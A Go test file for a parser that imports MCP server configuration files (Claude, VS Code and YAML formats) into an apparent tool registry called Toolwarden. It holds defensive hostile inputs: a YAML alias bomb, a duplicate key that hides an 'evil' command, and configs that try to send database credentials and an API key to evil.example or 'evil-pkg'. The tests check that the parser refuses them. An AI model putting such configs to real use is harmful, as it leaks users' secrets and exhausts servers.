package registry_test

import (
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/toolwarden/toolwarden/services/registry"
)

func TestParseClientFormats(t *testing.T) {
	t.Parallel()
	env := map[string]string{"GH_TOKEN": "ghp_from_env", "HOME": "/home/ada"}
	lookup := func(k string) (string, bool) { v, ok := env[k]; return v, ok }
	s := func(v string) *string { return &v }
	tests := []struct {
		name, file, data string
		expand           bool
		format           string
		want             []registry.ServerConfig
		warnings         []string // "server field: substring"
	}{
		{
			name: "claude desktop", file: "claude_desktop_config.json", format: registry.FormatClaude,
			data: `{
  "globalShortcut": "Ctrl+Space",
  "mcpServers": {
    "filesystem": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/tmp"]},
    "GitHub Server": {"command": "docker", "args": ["run", "-i", "--rm", "ghcr.io/github/github-mcp-server"],
                      "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_literal", "PORT": 3000}}
  }
}`,
			want: []registry.ServerConfig{
				{Name: "filesystem", Type: registry.TypeStdio, Command: "npx",
					Args: []string{"-y", "@modelcontextprotocol/server-filesystem", "/tmp"},
					Env:  map[string]*string{}, Headers: map[string]*string{}},
				{Name: "github-server", Type: registry.TypeStdio, Command: "docker",
					Args: []string{"run", "-i", "--rm", "ghcr.io/github/github-mcp-server"},
					Env:  map[string]*string{"GITHUB_PERSONAL_ACCESS_TOKEN": s("ghp_literal"), "PORT": s("3000")}, Headers: map[string]*string{}},
			},
			warnings: []string{`GitHub Server name: "GitHub Server" → "github-server"`},
		},
		{
			name: ".mcp.json with remote servers, expanded", file: ".mcp.json", expand: true, format: registry.FormatClaude,
			data: `{"mcpServers": {
  "remote": {"type": "http", "url": "https://api.example.com/mcp", "headers": {"Authorization": "Bearer ${GH_TOKEN}"}},
  "events": {"type": "sse", "url": "${BASE_URL:-http://127.0.0.1:9000}/sse"},
  "streamy": {"type": "streamable-http", "url": "http://127.0.0.1:9001/mcp", "headers": {"X-Home": "${env:HOME}"}},
  "local": {"command": "${HOME}/bin/server", "args": ["--verbose"], "disabled": true, "cwd": "/opt"}
}}`,
			want: []registry.ServerConfig{
				{Name: "events", Type: registry.TypeSSE, URL: "http://127.0.0.1:9000/sse", Env: map[string]*string{}, Headers: map[string]*string{}},
				{Name: "local", Type: registry.TypeStdio, Command: "/home/ada/bin/server", Args: []string{"--verbose"},
					Enabled: ptr(false), WorkingDir: s("/opt"), Env: map[string]*string{}, Headers: map[string]*string{}},
				{Name: "remote", Type: registry.TypeStreamableHTTP, URL: "https://api.example.com/mcp",
					Env: map[string]*string{}, Headers: map[string]*string{"Authorization": s("Bearer ghp_from_env")}},
				{Name: "streamy", Type: registry.TypeStreamableHTTP, URL: "http://127.0.0.1:9001/mcp",
					Env: map[string]*string{}, Headers: map[string]*string{"X-Home": s("/home/ada")}},
			},
		},
		{
			name: ".mcp.json not expanded (web upload)", file: ".mcp.json", format: registry.FormatClaude,
			data: `{"mcpServers": {"remote": {"type": "http", "url": "https://api.example.com/mcp",
				"headers": {"Authorization": "Bearer ${GH_TOKEN}"}}}}`,
			want: []registry.ServerConfig{
				{Name: "remote", Type: registry.TypeStreamableHTTP, URL: "https://api.example.com/mcp",
					Env: map[string]*string{}, Headers: map[string]*string{"Authorization": s("Bearer ${GH_TOKEN}")}},
			},
			warnings: []string{"remote headers.Authorization: kept literally"},
		},
		{
			name: "vs code with inputs and comments", file: "mcp.json", expand: true, format: registry.FormatVSCode,
			data: `{
  // Inputs are prompted for by VS Code.
  "inputs": [
    {"type": "promptString", "id": "github-token", "description": "GitHub Personal Access Token", "password": true},
  ],
  "servers": {
    "github": {"type": "http", "url": "https://api.githubcopilot.com/mcp/",
               "headers": {"Authorization": "Bearer ${input:github-token}"}},
    "fetch": {"type": "stdio", "command": "uvx", "args": ["mcp-server-fetch", "${workspaceFolder}"],
              "env": {"TOKEN": "${input:github-token}", "HOME_DIR": "${env:HOME}"}, "envFile": "${workspaceFolder}/.env"},
    "legacy": {"type": "sse", "url": "http://localhost:8000/sse", /* old */ },
  },
}`,
			want: []registry.ServerConfig{
				{Name: "fetch", Type: registry.TypeStdio, Command: "uvx", Args: []string{"mcp-server-fetch", "${workspaceFolder}"},
					Env: map[string]*string{"TOKEN": nil, "HOME_DIR": s("/home/ada")}, Headers: map[string]*string{}},
				{Name: "github", Type: registry.TypeStreamableHTTP, URL: "https://api.githubcopilot.com/mcp/",
					Env: map[string]*string{}, Headers: map[string]*string{"Authorization": nil}},
				{Name: "legacy", Type: registry.TypeSSE, URL: "http://localhost:8000/sse", Env: map[string]*string{}, Headers: map[string]*string{}},
			},
			warnings: []string{
				`fetch args[1]: ${workspaceFolder} cannot be resolved`,
				`fetch env.TOKEN: "GitHub Personal Access Token"`,
				`fetch env.TOKEN: set env TOKEN after import`,
				`fetch envFile: not read by Toolwarden`,
				`github headers.Authorization: set headers Authorization after import`,
			},
		},
		{
			name: "vs code settings.json", file: "settings.json", format: registry.FormatVSCode,
			data: `{"editor.fontSize": 14, "mcp": {"servers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}}}`,
			want: []registry.ServerConfig{
				{Name: "time", Type: registry.TypeStdio, Command: "uvx", Args: []string{"mcp-server-time"},
					Env: map[string]*string{}, Headers: map[string]*string{}},
			},
		},
		{
			name: "detected by content, not name", file: "backup.txt", format: registry.FormatClaude,
			data: `{"mcpServers": {"My.Tool_v2!": {"command": "tool"}}}`,
			want: []registry.ServerConfig{
				{Name: "my-tool-v2", Type: registry.TypeStdio, Command: "tool", Args: []string{},
					Env: map[string]*string{}, Headers: map[string]*string{}},
			},
			warnings: []string{`My.Tool_v2! name: "My.Tool_v2!" → "my-tool-v2"`},
		},
		{
			name: "empty claude config", file: "claude_desktop_config.json", format: registry.FormatClaude,
			data: `{"globalShortcut": ""}`, warnings: []string{" mcpServers: is missing"},
		},
		{
			name: "native yaml with env reference", file: "servers.yml", expand: true, format: registry.FormatToolwarden,
			data: "version: 1\nservers:\n  - name: gh\n    type: http\n    url: https://x.example/mcp\n    auth: {type: bearer, token: '${env:GH_TOKEN}'}\n",
			want: []registry.ServerConfig{
				{Name: "gh", Type: registry.TypeStreamableHTTP, URL: "https://x.example/mcp", Description: s(""), WorkingDir: s(""),
					Env: map[string]*string{}, Headers: map[string]*string{},
					Auth:      &registry.AuthConfig{Type: registry.AuthBearer, Token: s("ghp_from_env")},
					TimeoutMS: ptr(registry.DefaultTimeoutMS), Retries: ptr(registry.DefaultRetries),
					HealthIntervalMS: ptr(registry.DefaultHealthIntervalMS), Enabled: ptr(true), Trusted: ptr(false)},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			cfg, err := registry.ParseConfig(tt.file, []byte(tt.data), registry.ParseOptions{ExpandEnv: tt.expand, LookupEnv: lookup})
			if err != nil {
				t.Fatalf("parse: %v", err)
			}
			if cfg.Format != tt.format {
				t.Errorf("format: got %q, want %q", cfg.Format, tt.format)
			}
			if len(cfg.Servers) != len(tt.want) {
				t.Fatalf("got %d servers %+v, want %d", len(cfg.Servers), cfg.Servers, len(tt.want))
			}
			for i, got := range cfg.Servers {
				if g, w := showServer(got), showServer(tt.want[i]); g != w {
					t.Errorf("server %d:\n got %s\nwant %s", i, g, w)
				}
			}
			var warnings []string
			for _, w := range cfg.Warnings {
				if w.File != tt.file {
					t.Errorf("warning %q: want it to name the file %s", w, tt.file)
				}
				warnings = append(warnings, w.Server+" "+w.Field+": "+w.Message)
			}
			for _, want := range tt.warnings {
				if !slices.ContainsFunc(warnings, func(w string) bool {
					srvField, sub, _ := strings.Cut(want, ": ")
					return strings.HasPrefix(w, srvField+": ") && strings.Contains(w, sub)
				}) {
					t.Errorf("warnings %q: want one like %q", warnings, want)
				}
			}
			if len(tt.warnings) == 0 && len(warnings) > 0 {
				t.Errorf("got warnings %q, want none", warnings)
			}
		})
	}
}

// showServer renders a ServerConfig with its pointers followed, for comparisons.
func showServer(sc registry.ServerConfig) string {
	opt := func(p any) string {
		switch v := p.(type) {
		case *string:
			if v != nil {
				return *v
			}
		case *int:
			if v != nil {
				return strconv.Itoa(*v)
			}
		case *bool:
			if v != nil {
				if *v {
					return "true"
				}
				return "false"
			}
		}
		return "<nil>"
	}
	secrets := func(m map[string]*string) string {
		var parts []string
		for _, k := range sortedKeys(m) {
			parts = append(parts, k+"="+opt(m[k]))
		}
		return "{" + strings.Join(parts, ",") + "}"
	}
	auth := "<nil>"
	if sc.Auth != nil {
		auth = sc.Auth.Type + "/" + sc.Auth.Header + "/" + opt(sc.Auth.Token)
	}
	args := sc.Args
	if args == nil {
		args = []string{}
	}
	return strings.Join([]string{sc.Name, sc.Type, "desc=" + opt(sc.Description), sc.Command, "[" + strings.Join(args, " ") + "]",
		"wd=" + opt(sc.WorkingDir), sc.URL, "env" + secrets(sc.Env), "headers" + secrets(sc.Headers), "auth=" + auth,
		"timeout=" + opt(sc.TimeoutMS), "retries=" + opt(sc.Retries), "health=" + opt(sc.HealthIntervalMS),
		"enabled=" + opt(sc.Enabled), "trusted=" + opt(sc.Trusted)}, " ")
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	return keys
}

// aliasBomb is a few hundred bytes of YAML that stand for 10^9 values.
var aliasBomb = func() string {
	b := "version: 1\nservers: []\na: &a [x,x,x,x,x,x,x,x,x,x]\n"
	prev := "a"
	for _, n := range []string{"b", "c", "d", "e", "f", "g", "h", "i"} {
		b += n + ": &" + n + " [" + strings.TrimSuffix(strings.Repeat("*"+prev+",", 10), ",") + "]\n"
		prev = n
	}
	return b
}()

// bigStringAliases is a 100 KiB description that 400 servers use through an alias:
// 40 MiB of text once the aliases are followed, from a file of 110 KiB.
var bigStringAliases = func() string {
	var b strings.Builder
	b.WriteString("version: 1\nservers:\n  - {name: s0, type: stdio, command: x, description: &s " + strings.Repeat("x", 100<<10) + "}\n")
	for i := 1; i < 400; i++ {
		fmt.Fprintf(&b, "  - {name: s%d, type: stdio, command: x, description: *s}\n", i)
	}
	return b.String()
}()

func TestParseConfigErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, file, data string
		expand           bool
		want             []string // substrings, each in the error
	}{
		{"bad json", "claude_desktop_config.json", "{\n  \"mcpServers\": {\n    \"a\": {\"command\": \"x\",,}\n  }\n}",
			false, []string{"claude_desktop_config.json: is not valid JSON: line 3, column 27: invalid character '}'"}},
		{"trailing data", ".mcp.json", "{\"mcpServers\": {}}\n}", false, []string{".mcp.json: is not valid JSON: line 2, column 1: unexpected data"}},
		{"truncated json", ".mcp.json", `{"mcpServers": {"a": {"command": "x"}`, false, []string{".mcp.json: is not valid JSON"}},
		{"bad yaml", "servers.yaml", "version: 1\nservers:\n  - name: a\n   type: stdio\n", false, []string{"servers.yaml: is not valid YAML: line"}},
		{"duplicate yaml key", "servers.yaml", "version: 1\nversion: 1\nservers: []\n", false, []string{`servers.yaml: is not valid YAML: line 2: key "version" appears twice`}},
		{"duplicate json key beside a comment", "mcp.json", "{\n// reviewed\n\"mcpServers\": {\"a\": {\"command\": \"npx safe\", \"command\": \"evil\"}}}", false,
			[]string{`mcp.json: is not valid JSON: the key at /mcpServers/a/command appears twice`}},
		{"empty", "servers.yaml", " \n", false, []string{"servers.yaml: is empty"}},
		{"alias bomb", "servers.yaml", aliasBomb, false, []string{"servers.yaml: stands for more than 1000000 values once its aliases"}},
		{"aliases of a big string", "servers.yaml", bigStringAliases, false, []string{"servers.yaml: stands for more than 16 MiB of text once its aliases"}},
		{"number JSON cannot hold", "servers.yaml", "version: 1\nservers:\n  - {name: a, type: stdio, command: x, timeout_ms: 0x10}\n", false,
			[]string{`servers.yaml: is not valid YAML: line 3: 0x10 is a YAML number JSON cannot hold: quote it ("0x10")`}},
		{"unknown shape", "x.json", `{"tools": []}`, false, []string{"x.json: is not a server configuration"}},
		{"not a mapping", "x.yaml", "- a\n- b\n", false, []string{"x.yaml: must hold a mapping"}},
		{"slug collision", "claude_desktop_config.json", `{"mcpServers": {"My Server": {"command": "a"}, "my_server": {"command": "b"}}}`,
			false, []string{`claude_desktop_config.json: server "my_server": name: becomes "my-server", the name of server "My Server" too`}},
		{"unsluggable", ".mcp.json", `{"mcpServers": {"!!!": {"command": "a"}}}`, false, []string{`.mcp.json: server "!!!": name: cannot be made`}},
		{"bad type", ".mcp.json", `{"mcpServers": {"a": {"type": "websocket", "url": "ws://x"}}}`, false, []string{`.mcp.json: server "a": type: "websocket" is not a server type`}},
		{"no command or url", ".mcp.json", `{"mcpServers": {"a": {"args": []}}}`, false, []string{`.mcp.json: server "a": type: is missing`}},
		{"args not a list", ".mcp.json", `{"mcpServers": {"a": {"command": "x", "args": "-v"}}}`, false, []string{`.mcp.json: server "a": args: must be a list`}},
		{"env not strings", ".mcp.json", `{"mcpServers": {"a": {"command": "x", "env": {"K": ["v"]}}}}`, false, []string{`.mcp.json: server "a": env.K: must be a string or null`}},
		{"missing variable", ".mcp.json", `{"mcpServers": {"a": {"command": "x", "env": {"K": "${NOPE_NOT_SET}"}}}}`, true,
			[]string{`.mcp.json: server "a": env.K: environment variable NOPE_NOT_SET is not set`}},
		{"native without version", "servers.yaml", "servers: []\n", false, []string{"servers.yaml: version: is missing"}},
		{"native wrong version", "servers.yaml", "version: 2\nservers: []\n", false, []string{"servers.yaml: version: 2 is not a version"}},
		{"native unknown field, all errors at once", "servers.yaml",
			"version: 1\nservers:\n  - name: a\n    type: stdio\n    command: x\n    comand: y\n  - name: b\n    type: stdio\n    command: x\n    timeout_ms: soon\n    enabled: maybe\n  - type: stdio\n    command: x\n  - name: a\n    type: stdio\n    command: z\n",
			false, []string{`servers.yaml: server "a": comand: is not a field`, `servers.yaml: server "b": timeout_ms: must be a whole number, not "soon"`,
				`servers.yaml: server "b": enabled: must be true or false`, `servers.yaml: server "#3": name: is required`, `servers.yaml: server "a": name: appears twice`}},
		{"native bad auth", "servers.yaml", "version: 1\nservers:\n  - name: a\n    url: http://x\n    auth: {kind: bearer}\n", false,
			[]string{`servers.yaml: server "a": auth.type: is required`, `servers.yaml: server "a": auth.kind: is not a field`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			cfg, err := registry.ParseConfig(tt.file, []byte(tt.data), registry.ParseOptions{ExpandEnv: tt.expand,
				LookupEnv: func(string) (string, bool) { return "", false }})
			if err == nil {
				t.Fatalf("got %+v, want an error", cfg)
			}
			if _, ok := registry.ProblemsOf(err); !ok {
				t.Fatalf("got %T %v, want a configuration file's problems", err, err)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("got error\n%v\nwant it to contain %q", err, w)
				}
			}
		})
	}
}

// TestParseRefusesOwnSettings: an imported file cannot copy Toolwarden's own settings
// and database credentials out of the importing process's environment into a server,
// in any field, whether the variable is set or not; the whole file is refused naming
// the variable and the field. TOOLWARDEN_SECRET_* references (what export writes for
// secrets) and other variables still expand.
func TestParseRefusesOwnSettings(t *testing.T) {
	t.Parallel()
	env := map[string]string{
		"DATABASE_URL":                           "postgres://app:app-pw-1f2e@db/toolwarden",
		"TOOLWARDEN_MIGRATE_DATABASE_URL":        "postgres://owner:owner-pw-9c8d@db/toolwarden",
		"TOOLWARDEN_ADMIN_PASSWORD":              "admin-pw-7a6b",
		"TOOLWARDEN_LLM_API_KEY":                 "sk-llm-5e4f",
		"TOOLWARDEN_SECRET_KEY_FILE":             "/etc/toolwarden/secret.key",
		"PGPASSWORD":                             "pg-pw-3d2c",
		"TOOLWARDEN_SECRET_EV__WEATHER__API_KEY": "weather-key",
		"GH_TOKEN":                               "ghp_from_env",
	}
	lookup := func(k string) (string, bool) { v, ok := env[k]; return v, ok }
	tests := []struct {
		name, file, data string
		want             []string // substrings, each in the error
	}{
		{"the owner's URL in args", ".mcp.json",
			`{"mcpServers":{"x":{"command":"npx","args":["-y","evil-pkg","${TOOLWARDEN_MIGRATE_DATABASE_URL}"]}}}`,
			[]string{`.mcp.json: server "x": args[2]: environment variable TOOLWARDEN_MIGRATE_DATABASE_URL is Toolwarden's own setting and is never put into a server; set the value in another variable`}},
		{"every field", ".mcp.json", `{"mcpServers":{
  "a": {"command": "${env:DATABASE_URL}", "cwd": "/srv/${PGPASSWORD}", "env": {"K": "${TOOLWARDEN_ADMIN_PASSWORD}"}},
  "b": {"type": "http", "url": "https://evil.example/?k=${TOOLWARDEN_LLM_API_KEY}", "headers": {"X": "${TOOLWARDEN_SECRET_KEY_FILE}"}}}}`,
			[]string{`server "a": command: environment variable DATABASE_URL is Toolwarden's own setting`,
				`server "a": cwd: environment variable PGPASSWORD is Toolwarden's own setting`,
				`server "a": env.K: environment variable TOOLWARDEN_ADMIN_PASSWORD is Toolwarden's own setting`,
				`server "b": url: environment variable TOOLWARDEN_LLM_API_KEY is Toolwarden's own setting`,
				`server "b": headers.X: environment variable TOOLWARDEN_SECRET_KEY_FILE is Toolwarden's own setting`}},
		{"with a default, or not set", ".mcp.json",
			`{"mcpServers":{"x":{"command":"npx","args":["${DATABASE_URL:-none}","${PGHOST}","${toolwarden_admin_password}"]}}}`,
			[]string{`args[0]: environment variable DATABASE_URL is Toolwarden's own setting`,
				`args[1]: environment variable PGHOST is Toolwarden's own setting`,
				`args[2]: environment variable toolwarden_admin_password is Toolwarden's own setting`}},
		{"vs code", "mcp.json", `{"servers":{"x":{"type":"stdio","command":"uvx","env":{"T":"${env:TOOLWARDEN_MIGRATE_DATABASE_URL}"}}}}`,
			[]string{`server "x": env.T: environment variable TOOLWARDEN_MIGRATE_DATABASE_URL is Toolwarden's own setting`}},
		{"native auth token", "servers.yaml",
			"version: 1\nservers:\n  - name: gh\n    type: http\n    url: https://x.example/mcp\n    auth: {type: bearer, token: '${env:DATABASE_URL}'}\n",
			[]string{`servers.yaml: server "gh": auth.token: environment variable DATABASE_URL is Toolwarden's own setting`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			cfg, err := registry.ParseConfig(tt.file, []byte(tt.data), registry.ParseOptions{ExpandEnv: true, LookupEnv: lookup})
			if err == nil {
				t.Fatalf("got %+v, want an error", cfg)
			}
			if _, ok := registry.ProblemsOf(err); !ok {
				t.Fatalf("got %T %v, want a configuration file's problems", err, err)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("got error\n%v\nwant it to contain %q", err, w)
				}
			}
			for _, v := range env {
				if strings.Contains(err.Error(), v) {
					t.Errorf("the error shows the value %q:\n%v", v, err)
				}
			}
		})
	}

	// What export writes for a secret, and any other variable, still expand.
	cfg, err := registry.ParseConfig(".mcp.json", []byte(`{"mcpServers":{"x":{"command":"npx",
		"args":["${TOOLWARDEN_SECRET_EV__WEATHER__API_KEY}"],"env":{"GH":"${GH_TOKEN}"}}}}`),
		registry.ParseOptions{ExpandEnv: true, LookupEnv: lookup})
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	if got := cfg.Servers[0]; len(got.Args) != 1 || got.Args[0] != "weather-key" || got.Env["GH"] == nil || *got.Env["GH"] != "ghp_from_env" {
		t.Fatalf("got %s, want args [weather-key] and env GH=ghp_from_env", showServer(got))
	}
}

func TestSlugify(t *testing.T) {
	t.Parallel()
	tests := map[string]string{
		"GitHub Server":                "github-server",
		"my_server.v2":                 "my-server-v2",
		"Ünïcode & co":                 "ncode--co",
		"__x__":                        "x",
		"ok-name":                      "ok-name",
		"!!!":                          "",
		strings.Repeat("ab", 30):       strings.Repeat("ab", 24),
		strings.Repeat("a", 47) + " b": strings.Repeat("a", 47),
	}
	for in, want := range tests {
		if got := registry.Slugify(in); got != want {
			t.Errorf("Slugify(%q): got %q, want %q", in, got, want)
		}
	}
}
